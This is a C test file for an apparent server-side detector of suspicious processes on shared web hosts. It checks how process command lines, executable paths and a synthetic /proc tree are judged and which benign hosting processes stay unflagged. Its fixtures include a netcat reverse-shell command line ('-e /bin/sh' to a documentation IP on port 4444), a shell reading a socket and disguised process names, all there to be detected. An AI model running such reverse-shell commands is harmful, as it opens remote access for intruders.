/* What about a process is a sign, and reading a /proc of our own making. */
#include "spamgear/base/scratch.h"
#include "spamgear/check/processes.h"

#include "test.h"
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#define WORDS(text) text "\0", sizeof(text)

static const struct case_row {
    const char *name, *executable, *folder, *input, *words;
    size_t words_len;
    const char *want;
} rows[] = {
    {"a web server", "/usr/sbin/apache2", "/", "/dev/null", WORDS("/usr/sbin/apache2\0-k\0start"),
     ""},
    {"a pool", "/usr/sbin/php-fpm8.2", "/", "/dev/null", WORDS("php-fpm: pool www"), ""},
    {"a log-in shell", "/usr/bin/bash", "/home/u", "/dev/pts/0", WORDS("-bash"), ""},
    {"a script of the system", "/usr/bin/perl", "/", "/dev/null", WORDS("perl\0/usr/bin/exiqgrep"),
     ""},
    {"PHP's way to sendmail", "/usr/bin/sh", "/srv", "pipe:[1]",
     WORDS("sh\0-c\0/usr/sbin/sendmail -t -i"), ""},
    {"a version in the name", "/usr/bin/python3.11", "/", "/dev/null",
     WORDS("python3\0-m\0/usr/lib/x.py"), ""},
    {"perl of a tenant", "/usr/bin/perl", "/home/u", "/dev/null", WORDS("perl\0-w\0a.pl"),
     "interpreter: script /home/u/a.pl"},
    {"perl in /tmp", "/usr/bin/perl", "/tmp", "/dev/null", WORDS("perl\0a.pl"),
     "interpreter,temporary: script /tmp/a.pl; script in /tmp/a.pl"},
    {"a module is no code", "/usr/bin/perl", "/", "/dev/null", WORDS("perl\0-Mstrict\0/tmp/a"),
     "interpreter,temporary: script /tmp/a; script in /tmp/a"},
    {"code", "/usr/bin/perl", "/", "/dev/null", WORDS("perl\0-ne\0print"),
     "interpreter: code of its command line: perl"},
    {"code of a shell among other letters is its own", "/usr/bin/bash", "/", "/dev/null",
     WORDS("bash\0-xec\0/tmp/x"), ""},
    {"code behind a value", "/usr/bin/perl", "/", "/dev/null", WORDS("perl\0-Mlib\0-E\0say"),
     "interpreter: code of its command line: perl"},
    {"standard input", "/usr/bin/python3.11", "/", "pipe:[1]", WORDS("python3"),
     "interpreter: no script: python3.11"},
    {"a shell on a socket", "/usr/bin/dash", "/", "socket:[5]", WORDS("dash\0-i"),
     "interpreter: reads a socket: dash"},
    {"netcat", "/usr/bin/nc.openbsd", "/", "/dev/null",
     WORDS("nc.openbsd\0-e\0/bin/sh\0192.0.2.1\0004444"), "interpreter: connects nc.openbsd"},
    {"deleted", "/home/u/x (deleted)", "/", "/dev/null", WORDS("/home/u/x"),
     "deleted: deleted /home/u/x"},
    {"updated", "/usr/bin/env (deleted)", "/", "/dev/null", WORDS("env"), ""},
    {"in memory", "/memfd:x (deleted)", "/", "/dev/null", WORDS("memfd:x"),
     "deleted,temporary: deleted /memfd:x; program in memory"},
    {"in /dev/shm", "/dev/shm/.x/y", "/", "/dev/null", WORDS("./y"),
     "temporary: program in /dev/shm/.x/y"},
    {"in an upload folder", "/srv/shop/uploads/y", "/", "/dev/null", WORDS("y"),
     "temporary: program in /srv/shop/uploads/y"},
    {"a faked name", "/usr/bin/perl", "/", "/dev/null", WORDS("/usr/sbin/httpd"),
     "interpreter,faked-name: no script: perl; calls itself /usr/sbin/httpd"},
    {"a faked thread of the kernel", "/home/u/x", "/", "/dev/null", WORDS("[kworker/0:1]"),
     "faked-name: calls itself [kworker/0:1]"},
    {"no words at all", "/home/u/x", "/", "/dev/null", "", 0, ""},
    {"a shell that stops at errors", "/usr/bin/dash", "/", "/dev/null",
     WORDS("/bin/sh\0-e\0/tmp/x"), "interpreter,temporary: script /tmp/x; script in /tmp/x"},
    {"a shell that reads a file", "/usr/bin/dash", "/", "/tmp/x", WORDS("sh"),
     "temporary: reads /tmp/x"},
    {"a shell's option", "/usr/bin/bash", "/", "/dev/null", WORDS("bash\0-o\0posix\0/home/u/x"),
     "interpreter: script /home/u/x"},
    {"a folder for modules is no script", "/usr/bin/perl", "/", "/dev/null",
     WORDS("perl\0-wI\0/usr/share/perl5\0/home/u/a.pl"), "interpreter: script /home/u/a.pl"},
    {"nor is a module", "/usr/bin/node", "/", "/dev/null",
     WORDS("node\0-r\0/usr/lib/x.js\0/home/u/a.js"), "interpreter: script /home/u/a.js"},
    {"perl's -X has no value", "/usr/bin/perl", "/", "/dev/null",
     WORDS("perl\0-X\0/home/u/a.pl\0/usr/bin/x"), "interpreter: script /home/u/a.pl"},
    {"a way around", "/usr/bin/perl", "/usr/lib", "/dev/null",
     WORDS("perl\0./../../home//u/./a.pl"), "interpreter: script /home/u/a.pl"},
    {"a way around, whole", "/usr/bin/perl", "/", "/dev/null", WORDS("perl\0/usr/../tmp/a.pl"),
     "interpreter,temporary: script /tmp/a.pl; script in /tmp/a.pl"},
    {"a way back", "/usr/bin/perl", "/", "/dev/null", WORDS("perl\0/home/u/x/.."),
     "interpreter: script /home/u"},
    {"above the root", "/usr/bin/perl", "/", "/dev/null", WORDS("perl\0/../.."),
     "interpreter: script /"},
    {"a shell of busybox", "/usr/bin/busybox", "/", "/dev/null", WORDS("busybox\0sh\0/tmp/x"),
     "interpreter,temporary: script /tmp/x; script in /tmp/x"},
    {"netcat of busybox", "/usr/bin/busybox", "/", "/dev/null", WORDS("nc\000192.0.2.1\0004444"),
     "interpreter: connects nc"},
    {"a name that begins alike", "/home/u/h", "/", "/dev/null", WORDS("httpd"),
     "faked-name: calls itself httpd"},
    {"a title", "/usr/bin/perl", "/", "/dev/null", WORDS("php-fpm: pool www\0\0\0"),
     "interpreter,faked-name: no script: perl; calls itself php-fpm"},
    {"an interpreter of the tenant's own", "/home/u/perl", "/", "/dev/null",
     WORDS("perl\0/usr/bin/x"), "interpreter: program /home/u/perl"},
};

/* What runs on an ordinary web host, of tenants and of the web server's users. */
static const struct quiet_row {
    const char *executable, *words;
    size_t words_len;
} quiet_rows[] = {
    {"/usr/sbin/php-fpm7.4", WORDS("php-fpm: master process (/etc/php/7.4/fpm/php-fpm.conf)")},
    {"/usr/lib/apache2/mpm-itk/apache2", WORDS("/usr/sbin/apache2\0-k\0start")},
    {"/usr/lib/cgi-bin/php-cgi8.2", WORDS("/usr/lib/cgi-bin/php\0-c\0/srv/php.ini")},
    {"/usr/local/lsws/lsphp81/bin/lsphp", WORDS("lsphp:/home/u/public_html/index.php")},
    {"/usr/local/lsws/bin/openlitespeed", WORDS("openlitespeed (lshttpd - #01)")},
    {"/usr/sbin/nginx", WORDS("nginx: worker process")},
    {"/usr/sbin/lighttpd", WORDS("/usr/sbin/lighttpd\0-D")},
    {"/usr/bin/php8.2", WORDS("php\0/home/u/artisan\0queue:work")},
    {"/usr/bin/dash", WORDS("/bin/sh\0-c\0php /home/u/cron.php >/dev/null 2>&1")},
    {"/usr/bin/bash", WORDS("/bin/bash\0-lc\0cd /home/u && make")},
    {"/usr/bin/bash", WORDS("bash\0-o\0pipefail\0-ec\0true")},
    {"/usr/bin/bash", WORDS("bash\0--rcfile\0/home/u/rc\0-i")},
    {"/usr/bin/bash", WORDS("bash\0+O\0extglob\0-c\0true")},
    {"/usr/bin/bash", WORDS("-bash")},
    {"/usr/bin/bash", WORDS("-rbash")},
    {"/usr/bin/zsh", WORDS("-zsh")},
    {"/usr/sbin/cron", WORDS("/usr/sbin/CRON\0-f")},
    {"/usr/sbin/sshd", WORDS("sshd: u@pts/0")},
    {"/usr/sbin/sshd", WORDS("sshd: u@internal-sftp")},
    {"/usr/lib/openssh/sshd-session", WORDS("sshd-session: u@notty")},
    {"/usr/lib/openssh/sftp-server", WORDS("/usr/lib/openssh/sftp-server")},
    {"/usr/lib/systemd/systemd", WORDS("/lib/systemd/systemd\0--user")},
    {"/usr/lib/systemd/systemd", WORDS("(sd-pam)")},
    {"/usr/lib/systemd/systemd-executor", WORDS("(sd-pam)")},
    {"/usr/bin/dbus-daemon", WORDS("/usr/bin/dbus-daemon\0--session")},
    {"/usr/bin/tmux", WORDS("tmux: server")},
    {"/usr/bin/screen", WORDS("SCREEN\0-S\0build")},
    {"/usr/lib/dovecot/imap", WORDS("dovecot/imap")},
    {"/usr/lib/dovecot/imap", WORDS("dovecot/imap [u@example.org 192.0.2.1 IDLE]")},
    {"/usr/lib/dovecot/imap", WORDS("dovecot/imap [u@example.org 2001:db8:: IDLE]")},
    {"/usr/sbin/pure-ftpd-mysql", WORDS("pure-ftpd (IDLE)")},
    {"/usr/sbin/proftpd", WORDS("proftpd: u - 192.0.2.1: IDLE")},
    {"/usr/sbin/vsftpd", WORDS("vsftpd: 192.0.2.1: connected")},
    {"/usr/sbin/exim4", WORDS("/usr/sbin/exim4\0-Mc\0001vMf00-000001-01")},
    {"/usr/sbin/sendmail", WORDS("sendmail\0-t\0-i")},
    {"/usr/bin/git", WORDS("git-upload-pack\0/home/u/repo.git")},
    {"/usr/bin/rsync", WORDS("rsync\0--server\0.")},
    {"/usr/bin/redis-server", WORDS("redis-server 127.0.0.1:6379")},
    {"/usr/bin/uwsgi-core", WORDS("uWSGI worker 1")},
    {"/usr/sbin/mariadbd", WORDS("/usr/sbin/mariadbd")},
    {"/usr/lib/jvm/java-17-openjdk-amd64/bin/java", WORDS("java\0-jar\0/srv/app.jar")},
    {"/usr/bin/perl", WORDS("/usr/bin/perl\0-I\0/srv/lib\0-wT\0/usr/bin/exiqgrep")},
    {"/usr/bin/python3.11", WORDS("/usr/bin/python3\0-W\0ignore\0/usr/lib/mailman3/bin/runner")},
    {"/usr/bin/python3.11", WORDS("/usr/bin/python3\0-Es\0/usr/sbin/certbot")},
    {"/usr/bin/ruby3.1", WORDS("ruby\0/usr/bin/sass")},
    {"/usr/bin/node", WORDS("node\0/usr/share/nodejs/npm/bin/npm-cli.js\0install")},
    {"/usr/bin/busybox", WORDS("wget\0-q\0http://example.org/")},
    {"/usr/bin/busybox", WORDS("busybox\0tail\0-f\0/home/u/log")},
    {"/opt/app/bin/server", WORDS("/opt/app/bin/server")},
    {"/home/u/bin/my-server", WORDS("./my-server --port=8080")},
    {"/home/u/My Apps/run", WORDS("/home/u/My Apps/run")},
};

static void add_signs(struct strbuf *out, const struct process *process)
{
    for (unsigned i = 0, told = 0; i < PROCESS_SIGNS; i++)
        if (process->signs & 1u << i)
            strbuf_format(out, "%s%s", told++ > 0 ? "," : "", process_sign_name(1u << i));
    for (size_t i = 0; i < process->details.len; i++)
        strbuf_format(out, "%s%s", i == 0 ? ": " : "; ", process->details.at[i]);
}

static void check_signs(void)
{
    struct texts uploads = {0};
    texts_add(&uploads, "*/uploads");
    const struct process_settings settings = {.temporary = &uploads};
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        char executable[64], folder[64];
        struct process process = {.executable = executable, .folder = folder};
        struct strbuf got = {0};
        snprintf(executable, sizeof executable, "%s", rows[i].executable);
        snprintf(folder, sizeof folder, "%s", rows[i].folder);
        process_judge(&process, (struct span){rows[i].words, rows[i].words_len}, rows[i].input,
                      &settings);
        add_signs(&got, &process);
        test_text(rows[i].name, strbuf_text(&got), rows[i].want);
        texts_clear(&process.details);
        strbuf_clear(&got);
    }
    texts_clear(&uploads);
}

static void check_quiet(void)
{
    for (size_t i = 0; i < sizeof quiet_rows / sizeof *quiet_rows; i++) {
        char executable[64], folder[] = "/home/u";
        struct process process = {.executable = executable, .folder = folder};
        struct strbuf got = {0};
        snprintf(executable, sizeof executable, "%s", quiet_rows[i].executable);
        process_judge(&process, (struct span){quiet_rows[i].words, quiet_rows[i].words_len},
                      "/dev/null", &(const struct process_settings){0});
        add_signs(&got, &process);
        test_text(quiet_rows[i].words, strbuf_text(&got), "");
        texts_clear(&process.details);
        strbuf_clear(&got);
    }
}

/* ---- a /proc ---- */

static char root[] = "/tmp/processes_test.XXXXXX";

static void put(const char *name, const char *text, size_t len)
{
    FILE *file = fopen(name, "w");
    if (file == NULL || fwrite(text, 1, len, file) != len || fclose(file) != 0)
        exit(2);
}

static void put_text(const char *name, const char *text)
{
    put(name, text, strlen(text));
}

/* Process 12, whose name tries to be the end of the field, with a connection to port 25. */
static void make_proc(void)
{
    if (mkdtemp(root) == NULL || chdir(root) != 0 || mkdir("12", 0700) != 0 ||
        mkdir("12/fd", 0700) != 0 || mkdir("12/ns", 0700) != 0 || mkdir("12/net", 0700) != 0 ||
        mkdir("1", 0700) != 0 || mkdir("13", 0700) != 0 || mkdir("14", 0700) != 0)
        exit(2);
    put_text("stat", "cpu 1 2\nbtime 1700000000\n");
    put_text("1/status", "Name:\tinit\nUid:\t0\t0\t0\t0\n");
    put_text("12/status", "Name:\tx\nUid:\t1234\t0\t0\t0\n");
    put_text("12/stat", "12 (a) S 9 9) S 7 1 1 0 -1 1 1 1 1 1 1 1 1 1 1 1 1 0 500 1 1 1\n");
    put("12/cmdline", "spam\0-x", 7);
    put_text(
        "12/net/tcp",
        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid\n"
        "   0: 0100007F:1234 016433C6:0019 01 00000000:00000000 00:00000000 00000000 1234 0 77 1\n"
        "   1: 0100007F:1234 0100007F:0019 01 00000000:00000000 00:00000000 00000000 1234 0 78 1\n"
        "   2: 00000000:0019 00000000:0000 0A 00000000:00000000 00:00000000 00000000 0 0 79 1\n"
        "   3: 016433C6:1234 016433C6:0019 01 00000000:00000000 00:00000000 00000000 1234 0 81 1\n"
        "garbage\n");
    put_text(
        "12/net/tcp6",
        "   0: B80D0120000000000000000001000000:1234 "
        "B80D0120000000000000000002000000:024B 01 00000000:00000000 00:00000000 00000000 1234 0 "
        "80 1\n");
    if (symlink("/home/u/spam", "12/exe") != 0 || symlink("/", "12/cwd") != 0 ||
        symlink("net:[1]", "12/ns/net") != 0 || symlink("/dev/null", "12/fd/0") != 0 ||
        symlink("socket:[77]", "12/fd/3") != 0 || symlink("socket:[78]", "12/fd/4") != 0 ||
        symlink("socket:[80]", "12/fd/5") != 0 || symlink("socket:[81]", "12/fd/6") != 0)
        exit(2);
    put_text("13/status", "Uid:\t1234\t0\t0\t0\n");  /* it ended meanwhile */
    put_text("14/status", "Uid:\t33\t33\t33\t33\n"); /* of nobody we look at */
}

static unsigned found_with(const char *glob, const char *executable)
{
    struct texts allow = {0};
    struct processes processes;
    struct process_settings settings = {
        .proc = root, .uid_low = 1000, .uid_high = 2000, .allow = &allow};
    texts_add(&allow, glob);
    if (unlink("12/exe") != 0 || symlink(executable, "12/exe") != 0)
        exit(2);
    processes_look(&settings, &processes, NULL);
    unsigned found = (unsigned)processes.found.len;
    processes_clear(&processes);
    texts_clear(&allow);
    return found;
}

/* "spam -x" is the process's own word. */
static void check_allowed(void)
{
    test_number("a path", found_with("/home/*/spam", "/home/u/spam"), 0);
    test_number("another path", found_with("/home/*/spam", "/tmp/spam"), 1);
    test_number("a command", found_with("spam *", "/usr/bin/spam"), 0);
    test_number("a command of nobody's program", found_with("spam *", "/tmp/spam"), 1);
    put("12/cmdline", "/srv/good\0-x", 12);
    test_number("a path that it claims", found_with("/srv/*", "/usr/bin/perl"), 1);
}

static void check_proc(void)
{
    struct texts allow = {0};
    struct process_settings settings = {
        .proc = root, .uid_low = 1000, .uid_high = 2000, .allow = &allow};
    struct processes processes;
    struct strbuf why = {0}, got = {0};
    make_proc();
    test_number("looked", processes_look(&settings, &processes, &why), 0);
    test_number("found", (int64_t)processes.found.len, 1);
    test_number("seen", processes.seen, 1);
    if (processes.found.len == 1) {
        add_signs(&got, &processes.found.at[0]);
        test_true("mail", strstr(strbuf_text(&got), "connected to 198.51.100.1:25") != NULL);
        test_true("mail by IPv6",
                  strstr(strbuf_text(&got), "connected to [2001:db8::2]:587") != NULL);
        test_number("connections", (int64_t)processes.found.at[0].details.len, 2);
        test_number("parent", processes.found.at[0].parent, 7);
        test_number("start", processes.found.at[0].started,
                    1700000000 + 500 / sysconf(_SC_CLK_TCK));
        test_text("command", processes.found.at[0].command, "spam -x");
    }
    processes_clear(&processes);
    check_allowed();
    if (unlink("12/exe") != 0 || symlink("/home/u/spam", "12/exe") != 0)
        exit(2);
    texts_add(&allow, "/home/*/spam");
    processes_look(&settings, &processes, &why);
    test_number("allowed", processes.allowed, 1);
    test_number("nothing else", (int64_t)processes.found.len, 0);
    processes_clear(&processes);
    if (unlink("1/status") != 0)
        exit(2);
    test_number("others are hidden", processes_look(&settings, &processes, &why), -1);
    test_true("and why", strstr(strbuf_text(&why), "hidepid") != NULL);
    processes_clear(&processes);
    settings.proc = "/dev";
    test_number("no /proc", processes_look(&settings, &processes, &why), -1);
    processes_clear(&processes);
    texts_clear(&allow);
    strbuf_clear(&why);
    strbuf_clear(&got);
}

int main(void)
{
    check_signs();
    check_quiet();
    check_proc();
    if (chdir("/") != 0 || scratch_remove(root) != 0)
        return 2;
    return test_end();
}
